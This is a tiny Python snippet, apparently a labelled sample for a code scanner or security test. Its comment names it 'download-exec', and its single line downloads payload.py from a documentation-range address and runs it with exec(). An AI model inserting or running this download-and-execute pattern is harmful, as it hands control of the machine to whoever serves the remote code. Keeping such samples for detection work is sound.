# download-exec: downloaded Python source executed directly
import urllib.request

exec(urllib.request.urlopen("http://203.0.113.7/payload.py").read())
